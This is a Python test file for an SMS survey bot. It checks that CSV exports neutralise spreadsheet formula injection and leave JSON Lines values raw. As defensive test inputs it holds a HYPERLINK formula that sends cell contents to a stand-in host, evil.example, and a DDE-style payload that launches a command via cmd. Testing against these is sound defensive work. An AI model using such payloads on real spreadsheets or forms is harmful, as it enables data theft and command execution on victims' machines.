"""No CSV we write runs as a spreadsheet formula (OWASP, CSV injection): a text cell that begins
with =, +, -, @, a tab or a carriage return is prefixed with a single quote; numbers we write
as numbers stay numbers; JSON Lines keep the raw value."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path
from typing import Any

from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from smsbot.bootstrap.parts import open_parts
from smsbot.cli.export import export
from smsbot.config import Config
from smsbot.gateway.surveys import StartRequest
from smsbot.results.csvsafe import FORMULA_STARTS, writer
from smsbot.results.render import render_csv
from tests.conftest import ManualClock

SAFE = "'"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "Klicka här")'

# Text that begins with anything, the characters that start a formula most of all.
first = st.one_of(st.sampled_from(FORMULA_STARTS), st.characters(exclude_characters="\x00"))
texts = st.builds(
    lambda head, tail: head + tail, first, st.text(st.characters(exclude_characters="\x00"))
)


def expected(text: str) -> str:
    return SAFE + text if text.startswith(FORMULA_STARTS) else text


def read_back(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data, newline="")))


def test_the_characters_are_owasps() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


@given(texts)
def test_the_writer_quotes_what_a_spreadsheet_would_run(text: str) -> None:
    out = io.StringIO(newline="")
    writer(out).writerow([text, -3, -2.5, 7, None])
    assert read_back(out.getvalue()) == [[expected(text), "-3", "-2.5", "7", ""]]


@given(texts)
def test_report_csv_quotes_text_and_keeps_numbers(text: str) -> None:
    report: dict[str, Any] = {
        "filter": {},
        "min_group": 5,
        "sections": {
            "questions": [
                {"key": text, "n": 9, "suppressed": False, "nps": -25.0, "label": text},
            ]
        },
    }
    rows = read_back(render_csv(report))
    assert rows[1:] == [
        ["questions", expected(text), "n", "9"],
        ["questions", expected(text), "suppressed", "false"],
        ["questions", expected(text), "nps", "-25.0"],
        ["questions", expected(text), "label", expected(text)],
    ]


# --- through `smsbot export`, from a real conversation -----------------------------------------


def _a_citizen_writes(config: Config, clock: ManualClock, replies: list[str]) -> None:
    async def run() -> None:
        parts = await open_parts(config, clock=clock)
        try:
            flow = parts.catalog.get("health-visit")
            assert flow is not None
            request = StartRequest(flow, "+46701740642", "sv", unit="Akuten", service="Besök")
            assert (await parts.surveys.start(request)).conversation_id
            for reply in replies:
                await parts.surveys.receive("+46701740642", reply)
        finally:
            await parts.close()

    asyncio.run(run())


def _export(config: Config, *args: str) -> str:
    result = CliRunner().invoke(export, list(args), obj=config, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout


def test_hyperlink_from_a_citizen_is_text_in_csv_and_raw_in_jsonl(
    config: Config, clock: ManualClock
) -> None:
    _a_citizen_writes(config, clock, [f"2 {HYPERLINK}", "ja", "5", "9", HYPERLINK])
    answers = list(csv.DictReader(io.StringIO(_export(config, "answers"), newline="")))
    csat = next(row for row in answers if row["question"] == "csat")
    assert (csat["value"], csat["comment"]) == ("2", SAFE + HYPERLINK)
    text = next(row for row in answers if row["kind"] == "text")
    assert text["value"] == text["raw_text"] == SAFE + HYPERLINK
    feedback = list(csv.DictReader(io.StringIO(_export(config, "feedback"), newline="")))
    assert [row["text"] for row in feedback] == [SAFE + HYPERLINK, SAFE + HYPERLINK]

    lines = _export(config, "feedback", "--format", "jsonl").splitlines()
    assert [json.loads(line)["text"] for line in lines] == [HYPERLINK, HYPERLINK]
    lines = _export(config, "answers", "--format", "jsonl").splitlines()
    raw = [json.loads(line)["raw_text"] for line in lines]
    assert f"2 {HYPERLINK}" in raw and HYPERLINK in raw


def test_numbers_in_an_export_stay_numbers(config: Config, clock: ManualClock) -> None:
    _a_citizen_writes(config, clock, ["4", "nej", "2", "0"])
    answers = list(csv.DictReader(io.StringIO(_export(config, "answers"), newline="")))
    assert [row["value"] for row in answers] == ["4", "no", "2", "0"]


def test_every_csv_writer_uses_the_helper() -> None:
    """`csv.writer` is called in one place only: smsbot/results/csvsafe.py."""
    root = Path(__file__).resolve().parents[2] / "smsbot"
    callers = sorted(
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "csv.writer(" in path.read_text("utf-8") or "csv.DictWriter(" in path.read_text("utf-8")
    )
    assert callers == ["results/csvsafe.py"]


def test_the_bom_and_the_quote_together(config: Config, clock: ManualClock, tmp_path: Path) -> None:
    _a_citizen_writes(config, clock, ["3", "ja", "5", "9", "@SUM(1+1)*cmd|' /C calc'!A0"])
    target = tmp_path / "feedback.csv"
    _export(config, "feedback", "--bom", "--out", str(target))
    with target.open(encoding="utf-8-sig", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["text"] == SAFE + "@SUM(1+1)*cmd|' /C calc'!A0"
